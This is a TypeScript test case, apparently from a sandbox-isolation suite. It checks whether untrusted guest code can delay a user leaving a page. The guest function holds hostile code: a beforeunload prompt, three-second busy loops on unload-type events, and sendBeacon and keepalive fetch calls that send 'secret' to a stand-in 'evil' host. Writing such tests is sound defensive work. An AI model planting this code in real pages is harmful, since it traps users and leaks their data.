import type { Attack } from '../attack.ts';
import { holds, same } from '../expect.ts';

export const attack: Attack = {
  id: '55',
  group: 'denial',
  title: 'hold the customer on the way out: beforeunload prompts, pagehide and unload work, keepalive requests',
  expected: 'home within 2.5 s (or three times what another app takes), no dialog, 0 hits',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }) {
    addEventListener('beforeunload', (event) => {
      event.preventDefault();
      return 'Stay';
    });
    const hold = (how: string): void => {
      navigator.sendBeacon(`${evil}/55/beacon-${how}`, 'secret');
      void fetch(`${evil}/55/keepalive-${how}`, { method: 'POST', keepalive: true, body: 'secret' }).catch(() => null);
      const until = performance.now() + 3_000;
      while (performance.now() < until);
    };
    for (const event of ['pagehide', 'unload', 'visibilitychange', 'freeze']) {
      addEventListener(event, () => hold(event));
      document.addEventListener(event, () => hold(event));
    }
    // On an ordinary page leaving is what must be heard.
    if (self === top) {
      setTimeout(() => location.assign('/left'), 50);
      await pause(300);
    }
    return null;
  },
  async judge({ page, leave, open }) {
    // How long it takes to leave an app that lets one go, on this machine, now.
    const honest = await open();
    const asked = performance.now();
    await honest.leave();
    const usual = performance.now() - asked;
    await honest.page.close();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.type());
      void dialog.dismiss();
    });
    const started = performance.now();
    await leave();
    const took = performance.now() - started;
    holds(
      took <= Math.max(2_500, 3 * usual),
      `leaving took ${took.toFixed(0)} ms, from another app ${usual.toFixed(0)} ms`,
    );
    same(dialogs, []);
    await page.waitForTimeout(500);
  },
};
